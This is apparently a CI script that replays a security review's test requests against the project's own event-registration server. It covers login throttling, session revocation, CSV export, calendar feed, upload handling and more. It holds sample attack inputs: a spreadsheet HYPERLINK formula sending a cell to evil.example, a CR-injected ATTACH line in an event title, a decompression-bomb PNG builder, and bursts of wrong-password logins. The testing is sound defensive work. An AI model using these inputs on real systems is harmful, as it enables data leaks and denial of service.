"""Replays the requests of the security review (issue 13) against a running server and prints,
for each, what it answers now. Run by .ci/bench-security, which builds and starts the server.

    python3 .ci/security-replay.py BASE_URL SERVER_PID DATABASE_FILE EMAIL PASSWORD

Standard library only. The server must trust X-Real-IP (CLIENT_IP_HEADER), so that requests can
come "from" several addresses.
"""

import concurrent.futures
import http.client
import json
import re
import sqlite3
import sys
import threading
import time
import urllib.parse
import zlib
import struct

BASE, PID, DATABASE, EMAIL, PASSWORD = sys.argv[1:6]
HOST, PORT = urllib.parse.urlparse(BASE).hostname, urllib.parse.urlparse(BASE).port


def request(method, path, body=None, headers=None, timeout=60):
    """(status, headers, body, seconds)"""
    connection = http.client.HTTPConnection(HOST, PORT, timeout=timeout)
    headers = dict(headers or {})
    if isinstance(body, dict):
        body = urllib.parse.urlencode(body)
        headers.setdefault("Content-Type", "application/x-www-form-urlencoded")
    started = time.monotonic()
    connection.request(method, path, body=body, headers=headers)
    response = connection.getresponse()
    data = response.read()
    took = time.monotonic() - started
    connection.close()
    return response.status, dict(response.getheaders()), data, took


def rss_mib():
    fields = dict(
        line.split(":", 1) for line in open(f"/proc/{PID}/status").read().splitlines() if ":" in line
    )
    return int(fields["VmRSS"].split()[0]) / 1024, int(fields["VmHWM"].split()[0]) / 1024


def tally(statuses):
    counts = {}
    for status in statuses:
        counts[status] = counts.get(status, 0) + 1
    return ", ".join(f"{n} × {status}" for status, n in sorted(counts.items()))


def at_once(calls):
    with concurrent.futures.ThreadPoolExecutor(max_workers=len(calls)) as pool:
        return list(pool.map(lambda call: call(), calls))


def sign_in(email=EMAIL, password=PASSWORD, address="192.0.2.1"):
    status, headers, _, _ = request(
        "POST", "/api/login", {"lang": "et", "email": email, "password": password}, {"X-Real-IP": address}
    )
    cookie = headers.get("set-cookie", "").split(";")[0]
    return status, cookie


def say(item, what, answer):
    print(f"{item:>4}  {what}\n      → {answer}")


# 1. The month grid of year 9999, and a year before the calendar's.
for month in ["9999-12", "-009999-01"]:
    status, _, body, took = request("GET", f"/et/events?view=month&month={month}")
    reason = re.search(rb"<h1>(.*?)</h1>", body)
    say("1", f"GET /et/events?view=month&month={month}",
        f"{status} in {took * 1000:.1f} ms ({reason.group(1).decode() if reason else ''})")
status, _, _, took = request("GET", "/health")
say("1", "GET /health right after", f"{status} in {took * 1000:.1f} ms")

# 2. Twenty wrong passwords for one account at once, from one address; 24 unknown emails.
before = rss_mib()
answers = at_once([lambda n=n: sign_in(password=f"wrong {n}", address="203.0.113.66")[0] for n in range(20)])
after = rss_mib()
say("2", "20 concurrent wrong passwords for one account from one address", tally(answers))
say("2", "server memory around that burst",
    f"RSS {before[0]:.0f} → {after[0]:.0f} MiB, peak so far {after[1]:.0f} MiB")
answers = at_once([lambda n=n: sign_in(f"nobody{n}@ivek.example", "x", "198.51.100.7")[0] for n in range(24)])
say("2", "24 concurrent unknown emails from one address", tally(answers))

# 7. Strangers cannot lock the owner out: after those 20, the owner from elsewhere.
status, owner = sign_in(address="192.0.2.10")
say("7", "the right password from another address after 5+ failures", status)

# 3. A session ended by a password change does not come back.
_, stolen = sign_in(address="192.0.2.10")
new = "Kohtla-Järve kaevandusmuuseum"
status, headers, _, _ = request("POST", "/api/coordinator/password",
                                {"current": PASSWORD, "new": new, "repeat": new},
                                {"Cookie": owner, "X-Real-IP": "192.0.2.10"})
owner = headers.get("set-cookie", "").split(";")[0] or owner
status, _, _, _ = request("GET", "/et/admin", headers={"Cookie": stolen})
say("3", "the other session's dashboard after the owner changed the password", status)
request("POST", "/api/coordinator/password", {"current": new, "new": PASSWORD, "repeat": PASSWORD},
        {"Cookie": owner, "X-Real-IP": "192.0.2.10"})
_, coordinator = sign_in(address="192.0.2.10")

# 4. Registrations while another program holds the write lock for a second.
def register(n, email=None, name="Person", address=None):
    return request("POST", "/api/register",
                   {"lang": "en", "slug": "koolitus-rahastus", "name": name,
                    "email": email or f"w{n}@x.ee", "consent": "yes"},
                   {"X-Real-IP": address or f"192.0.2.{100 + n}"})

holder = sqlite3.connect(DATABASE, timeout=10, isolation_level=None, check_same_thread=False)
holder.execute("BEGIN IMMEDIATE")
threading.Timer(1.0, lambda: holder.execute("COMMIT")).start()
started = time.monotonic()
answers = at_once([lambda n=n: register(n) for n in range(10)]
                  + [lambda: request("GET", "/health"), lambda: request("GET", "/et/events")])
say("4", "10 registrations + /health + /et/events while a writer holds the lock for 1 s",
    f"registrations: {tally(a[0] for a in answers[:10])}; /health {answers[10][0]} in "
    f"{answers[10][3]:.2f} s; /et/events {answers[11][0]} in {answers[11][3]:.2f} s; "
    f"all done in {time.monotonic() - started:.2f} s")
time.sleep(0.2)
db = sqlite3.connect(DATABASE)
unexplained = db.execute("SELECT count(*) FROM registrations r WHERE NOT EXISTS "
                         "(SELECT 1 FROM outbox o WHERE o.registration_id = r.id)").fetchone()[0]
say("4", "registrations stored without their private link in the outbox", unexplained)

# 5. A formula as a registrant's name, in the coordinator's CSV export.
formula = '=HYPERLINK("http://evil.example/?leak="&D2,"Click")'
register(0, "formula@x.ee", formula, "192.0.2.50")
event = db.execute("SELECT id FROM events WHERE slug = 'koolitus-rahastus'").fetchone()[0]
_, _, body, _ = request("GET", f"/api/coordinator/events/{event}-registrations.csv",
                        headers={"Cookie": coordinator})
line = next(l for l in body.decode("utf-8-sig").splitlines() if "HYPERLINK" in l)
say("5", "the registrations export's cell", line.split(";")[2])

# 6. A 1 MB email at sign-in.
before = db.execute("SELECT (SELECT count(*) FROM login_failures), "
                    "(SELECT coalesce(max(length(changes)), 0) FROM audit_log)").fetchone()
status, _ = sign_in("a" * 1_000_000 + "@x.ee", "x", "192.0.2.60")
after = db.execute("SELECT (SELECT count(*) FROM login_failures), "
                   "(SELECT coalesce(max(length(changes)), 0) FROM audit_log)").fetchone()
say("6", "sign-in with a 1 MB email", f"{status}; failures recorded {before[0]} → {after[0]}, "
    f"longest audit change {after[1]} bytes")

# 8. Ten applications to join at once from one address.
def apply(n):
    return request("POST", "/api/join", {
        "lang": "ru", "form[name]": f"Stuudio {n}", "form[kind]": "company",
        "form[municipality]": "narva", "form[sectors][0]": "design", "form[speaks_et]": "true",
        "form[description_et]": "Disain", "contact[name]": "Maria", "contact[email]": "m@x.ee",
        "contact[consent]": "true"}, {"X-Real-IP": "203.0.113.80"})[0]
say("8", "10 concurrent applications from one address", tally(at_once([lambda n=n: apply(n) for n in range(10)])))

# 9. A title with a bare CR, saved through the coordinator's form, in the feed.
status, _, body, _ = request("POST", "/api/coordinator/events/save", {
    "lang": "en", "intent": "publish", "form[type_code]": "training",
    "form[title_en]": "Feed test\rATTACH:https://evil.example/x", "form[start_date]": "2030-06-04",
    "form[start_time]": "10:00", "form[end_time]": "12:00", "form[venue]": "Hall",
    "form[description_en]": "one\r\ntwo\rthree"}, {"Cookie": coordinator, "X-Real-IP": "192.0.2.10"})
_, _, feed, _ = request("GET", "/calendar.ics?lang=en")
bare = feed.replace(b"\r\n", b"").count(b"\r")
summary = re.search(rb"SUMMARY:Feed test[^\r]*", feed)
say("9", "a title with a bare CR, saved and read from /calendar.ics",
    f"save {status}; {bare} bare CR in the feed; {summary.group(0).decode() if summary else ''}")

# 10. Registering an email already registered; the join check with a hidden registry code.
first = register(0, "twice@x.ee", "Mari", "192.0.2.70")
second = register(0, "twice@x.ee", "Mari", "192.0.2.71")
say("10", "the same email registered twice: the two answers",
    f"{first[0]} {first[2].decode()} / {second[0]} {second[2].decode()}")
request("POST", "/api/coordinator/directory/save", {
    "form[name]": "Varjatud", "form[kind]": "company", "form[municipality]": "narva",
    "form[sectors][0]": "design", "form[speaks_et]": "true", "form[description_et]": "x",
    "form[registry_code]": "10421629"}, {"Cookie": coordinator, "X-Real-IP": "192.0.2.10"})
checks = [request("POST", "/api/join/check", {
    "form[name]": "Uus", "form[kind]": "company", "form[municipality]": "narva",
    "form[sectors][0]": "design", "form[speaks_et]": "true", "form[description_et]": "x",
    "form[registry_code]": code, "contact[name]": "A", "contact[email]": "a@x.ee",
    "contact[consent]": "true"})[2].decode() for code in ["10421629", "10060701"]]
say("10", "the public join check, a hidden entry's registry code / an unused one", " / ".join(checks))

# 11. The personal-data download fetched by another site.
entry = db.execute("SELECT id FROM organisations ORDER BY id LIMIT 1").fetchone()[0]
path = f"/api/coordinator/directory/{entry}-personal-data.json"
for site in ["cross-site", "same-origin"]:
    status, _, _, _ = request("GET", path, headers={"Cookie": coordinator, "Sec-Fetch-Site": site})
    say("11", f"GET {path} with Sec-Fetch-Site: {site}", status)

# 12. A closed admin page.
status, headers, body, _ = request("GET", "/en/admin")
say("12", "GET /en/admin without a session", f"{status} → {headers.get('location')} ({len(body)} bytes)")

# 13. A small PNG claiming 8000 × 8000 pixels, uploaded as a logo.
def png(width, height):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = zlib.compress(b"".join(b"\x00" + b"\x00" * width for _ in range(height)), 9)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", rows) + chunk(b"IEND", b""))

picture = png(8000, 8000)
boundary = "replay-boundary"
body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\n{entry}\r\n"
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"logo.png\"\r\n"
        f"Content-Type: image/png\r\n\r\n").encode() + picture + f"\r\n--{boundary}--\r\n".encode()
before = rss_mib()
status, _, answer, took = request("POST", "/api/coordinator/directory/logo", body,
                                  {"Cookie": coordinator, "X-Real-IP": "192.0.2.10",
                                   "Content-Type": f"multipart/form-data; boundary={boundary}"})
after = rss_mib()
say("13", f"a {len(picture) // 1024} KB PNG of 8000 × 8000 pixels as a logo",
    f"{status} {answer.decode()} in {took * 1000:.0f} ms; RSS {before[0]:.0f} → {after[0]:.0f} MiB")
